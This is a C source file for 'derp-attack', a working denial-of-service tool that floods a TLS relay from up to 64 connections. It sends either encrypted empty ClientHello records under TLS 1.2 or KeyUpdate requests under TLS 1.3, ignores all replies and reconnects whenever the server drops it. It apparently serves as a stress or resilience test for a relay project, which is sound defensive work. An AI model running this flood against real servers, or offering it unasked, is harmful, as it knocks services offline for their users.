/*
 * derp-attack: floods of TLS handshake messages after the handshake.
 *
 *   derp-attack hellos|updates HOST PORT CONNECTIONS
 *
 *   hellos   TLS 1.2 records with an empty ClientHello each, 33 bytes, that
 *            a peer may answer with a warning of 31 bytes
 *   updates  TLS 1.3 KeyUpdates that ask for one in return
 *
 * Nothing that comes back is read. A connection that the relay ends is made
 * again a little later. Runs until standard input ends, then prints
 * "sent MESSAGES ended CONNECTIONS"; "ready" when the first ones are made.
 */
#include "num.h"

#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/tcp.h>
#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <openssl/kdf.h>
#include <openssl/params.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define CONNECTIONS_MAX 64
#define AGAIN_MS 100  /* before a connection is made again */
#define PER_TURN 500  /* messages of one connection before the next's turn */
#define HELLO_SIZE 33 /* header, explicit nonce, ClientHello, tag */
#define GCM_NONCE 12
#define GCM_TAG 16

struct gcm12 { /* client's direction of TLS 1.2 with AES-128-GCM, RFC 5288 */
	EVP_CIPHER_CTX *ctx;
	uint8_t salt[4];
	uint64_t sequence;
};

struct attacker {
	int fd; /* -1: not connected */
	SSL *ssl;
	struct gcm12 seal;                  /* hellos */
	uint8_t out[HELLO_SIZE * PER_TURN]; /* sealed, to be sent */
	size_t out_len, out_at;
};

struct attack {
	SSL_CTX *ctx;
	struct addrinfo *address; /* owned */
	bool hellos;              /* else updates */
	unsigned long sent, ended;
	struct attacker attackers[CONNECTIONS_MAX];
	nfds_t count;
};

static _Noreturn void
die(const char *what)
{
	fprintf(stderr, "derp-attack: %s\n", what);
	exit(1);
}

/* Keys of the client's direction out of the session, RFC 5246 section 6.3. */
static void
derive(struct gcm12 *seal, SSL *ssl)
{
	uint8_t master[48], seed[13 + 64], block[40];
	EVP_KDF *kdf = EVP_KDF_fetch(NULL, "TLS1-PRF", NULL);
	EVP_KDF_CTX *ctx = EVP_KDF_CTX_new(kdf);
	char digest[] = "SHA256";
	OSSL_PARAM params[] = {
		OSSL_PARAM_construct_utf8_string(
		    OSSL_KDF_PARAM_DIGEST, digest, 0),
		OSSL_PARAM_construct_octet_string(
		    OSSL_KDF_PARAM_SECRET, master, sizeof master),
		OSSL_PARAM_construct_octet_string(
		    OSSL_KDF_PARAM_SEED, seed, sizeof seed),
		OSSL_PARAM_construct_end(),
	};

	SSL_SESSION_get_master_key(SSL_get_session(ssl), master, sizeof master);
	memcpy(seed, "key expansion", 13);
	SSL_get_server_random(ssl, seed + 13, 32);
	SSL_get_client_random(ssl, seed + 45, 32);
	if (EVP_KDF_derive(ctx, block, sizeof block, params) != 1)
		die("cannot derive keys");
	/* client's key, server's key, client's salt, server's salt */
	seal->ctx = EVP_CIPHER_CTX_new();
	if (EVP_EncryptInit_ex2(
		seal->ctx, EVP_aes_128_gcm(), block, NULL, NULL) != 1)
		die("no AES-128-GCM");
	memcpy(seal->salt, block + 32, sizeof seal->salt);
	seal->sequence = 1; /* Finished was 0 */
	EVP_KDF_CTX_free(ctx);
	EVP_KDF_free(kdf);
}

static void
put_u64(uint8_t p[static 8], uint64_t v)
{
	for (int i = 7; i >= 0; i--, v >>= 8)
		p[i] = (uint8_t)v;
}

/* One record with an empty ClientHello. */
static void
seal_hello(struct gcm12 *seal, uint8_t out[static HELLO_SIZE])
{
	static const uint8_t header[] = { 22, 3, 3, 0, HELLO_SIZE - 5 };
	static const uint8_t hello[] = { 1, 0, 0, 0 };
	uint8_t nonce[GCM_NONCE], extra[13] = { [8] = 22, 3, 3, 0, 4 };
	int n;

	memcpy(out, header, sizeof header);
	put_u64(out + 5, seal->sequence);
	put_u64(extra, seal->sequence++);
	memcpy(nonce, seal->salt, 4);
	memcpy(nonce + 4, out + 5, 8);
	if (EVP_EncryptInit_ex2(seal->ctx, NULL, NULL, nonce, NULL) != 1 ||
	    EVP_EncryptUpdate(seal->ctx, NULL, &n, extra, sizeof extra) != 1 ||
	    EVP_EncryptUpdate(seal->ctx, out + 13, &n, hello, sizeof hello) !=
		1 ||
	    EVP_EncryptFinal_ex(seal->ctx, out + 17, &n) != 1 ||
	    EVP_CIPHER_CTX_ctrl(
		seal->ctx, EVP_CTRL_AEAD_GET_TAG, GCM_TAG, out + 17) != 1)
		die("cannot seal");
}

static void
leave(struct attacker *a)
{
	EVP_CIPHER_CTX_free(a->seal.ctx);
	SSL_free(a->ssl);
	if (a->fd != -1)
		close(a->fd);
	*a = (struct attacker){ .fd = -1 };
}

/* Connects and shakes hands; false when the relay does not want that. */
static bool
join(const struct attack *all, struct attacker *a)
{
	const int on = 1;

	*a = (struct attacker){ .fd = socket(
				    all->address->ai_family, SOCK_STREAM, 0) };
	a->ssl = SSL_new(all->ctx);
	if (a->fd == -1 || a->ssl == NULL)
		die("no socket or no memory");
	if (connect(a->fd, all->address->ai_addr, all->address->ai_addrlen) ==
		-1 ||
	    SSL_set_fd(a->ssl, a->fd) != 1 || SSL_connect(a->ssl) != 1) {
		leave(a);
		return false;
	}
	if (all->hellos)
		derive(&a->seal, a->ssl);
	(void)setsockopt(a->fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
	(void)fcntl(a->fd, F_SETFL, O_NONBLOCK);
	return true;
}

/* As many ClientHellos as the socket takes; false when the relay has ended. */
static bool
send_hellos(struct attack *all, struct attacker *a)
{
	ssize_t n;

	if (a->out_at == a->out_len) {
		a->out_at = a->out_len = 0;
		for (int i = 0; i < PER_TURN; i++, a->out_len += HELLO_SIZE)
			seal_hello(&a->seal, a->out + a->out_len);
	}
	n = send(
	    a->fd, a->out + a->out_at, a->out_len - a->out_at, MSG_NOSIGNAL);
	if (n == -1)
		return errno == EAGAIN || errno == EINTR;
	a->out_at += (size_t)n;
	all->sent += (unsigned long)n / HELLO_SIZE;
	return true;
}

static bool
send_updates(struct attack *all, struct attacker *a)
{
	int rc;

	for (int i = 0; i < PER_TURN; i++) {
		if (SSL_get_key_update_type(a->ssl) == SSL_KEY_UPDATE_NONE)
			(void)SSL_key_update(a->ssl, SSL_KEY_UPDATE_REQUESTED);
		rc = SSL_do_handshake(a->ssl);
		if (rc != 1)
			return SSL_get_error(a->ssl, rc) ==
			    SSL_ERROR_WANT_WRITE;
		all->sent++;
	}
	return true;
}

static void
join_all(struct attack *all)
{
	for (nfds_t i = 0; i < all->count; i++)
		if (all->attackers[i].fd == -1)
			(void)join(all, &all->attackers[i]);
}

/* Everyone's turn, as far as their sockets have room. */
static void
strike(struct attack *all, struct pollfd *polls)
{
	struct attacker *a;

	for (nfds_t i = 0; i < all->count; i++) {
		a = &all->attackers[i];
		if (a->fd == -1 || polls[i].revents == 0)
			continue;
		if (!(all->hellos ? send_hellos(all, a)
				  : send_updates(all, a))) {
			all->ended++;
			leave(a);
		}
	}
}

static void
run(struct attack *all)
{
	struct pollfd polls[CONNECTIONS_MAX + 1];
	struct pollfd *input = &polls[all->count];
	bool missing;

	*input = (struct pollfd){ .fd = STDIN_FILENO, .events = POLLIN };
	join_all(all);
	puts("ready");
	fflush(stdout);
	while (input->revents == 0) {
		missing = false;
		for (nfds_t i = 0; i < all->count; i++) {
			polls[i] =
			    (struct pollfd){ all->attackers[i].fd, POLLOUT, 0 };
			missing |= all->attackers[i].fd == -1;
		}
		(void)poll(polls, all->count + 1, AGAIN_MS);
		strike(all, polls);
		if (missing) {
			usleep(AGAIN_MS * 1000);
			join_all(all);
		}
	}
	printf("sent %lu ended %lu\n", all->sent, all->ended);
}

static SSL_CTX *
make_context(bool hellos)
{
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	int version = hellos ? TLS1_2_VERSION : TLS1_3_VERSION;

	if (ctx == NULL || SSL_CTX_set_min_proto_version(ctx, version) != 1 ||
	    SSL_CTX_set_max_proto_version(ctx, version) != 1 ||
	    SSL_CTX_set_cipher_list(ctx, "ECDHE-ECDSA-AES128-GCM-SHA256") != 1)
		die("no TLS");
	return ctx;
}

int
main(int argc, char **argv)
{
	const struct addrinfo hints = { .ai_socktype = SOCK_STREAM,
		.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV };
	struct attack *all = calloc(1, sizeof *all);
	uint64_t count;

	if (argc != 5 || all == NULL ||
	    (strcmp(argv[1], "hellos") != 0 && strcmp(argv[1], "updates") != 0))
		die("usage: derp-attack hellos|updates HOST PORT CONNECTIONS");
	if (num_parse_decimal(slice_str(argv[4]), CONNECTIONS_MAX, &count) ==
		-1 ||
	    count == 0)
		die("bad number of connections");
	if (getaddrinfo(argv[2], argv[3], &hints, &all->address) != 0)
		die("bad address");
	(void)signal(SIGPIPE, SIG_IGN);
	all->hellos = strcmp(argv[1], "hellos") == 0;
	all->ctx = make_context(all->hellos);
	all->count = (nfds_t)count;
	for (nfds_t i = 0; i < all->count; i++)
		all->attackers[i].fd = -1;
	run(all);
	for (nfds_t i = 0; i < all->count; i++)
		leave(&all->attackers[i]);
	SSL_CTX_free(all->ctx);
	freeaddrinfo(all->address);
	free(all);
	return 0;
}
